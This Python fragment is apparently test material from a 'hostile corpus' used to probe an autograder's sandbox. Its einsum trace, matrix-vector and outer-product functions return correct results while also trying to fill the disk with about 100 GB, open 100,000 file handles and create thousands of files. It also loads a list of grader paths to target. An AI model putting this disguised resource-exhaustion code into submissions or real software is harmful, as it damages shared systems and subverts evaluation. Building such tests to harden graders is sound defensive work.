# --- appended by the hostile corpus: later defs replace the honest ones above ---
import json as _json
import os as _os

# Where the grader keeps what a submission must never touch, written here by tests/test_hostile.py
# (a real attacker would guess /autograder/source/...).
_T = _json.load(open("_targets.json"))

def einsum_trace(A):
    chunk = b"x" * (1 << 20)
    with open("huge.bin", "wb") as handle:
        try:
            for _ in range(100_000):  # 100 GB if nothing stopped it
                handle.write(chunk)
                handle.flush()
        except OSError:
            pass
    return float(np.einsum("ii->", A))


def einsum_matvec(A, b):
    handles = []
    try:
        for i in range(100_000):
            handles.append(open(f"open_{i % 10}.txt", "w"))
    except OSError:
        pass
    for handle in handles:
        handle.close()
    return np.einsum("ij,j->i", A, b)


def einsum_outer(a, b):
    _os.makedirs("many", exist_ok=True)
    for i in range(3000):
        with open(f"many/{i}.txt", "w") as handle:
            handle.write("x")
    return np.einsum("i,j->ij", a, b)
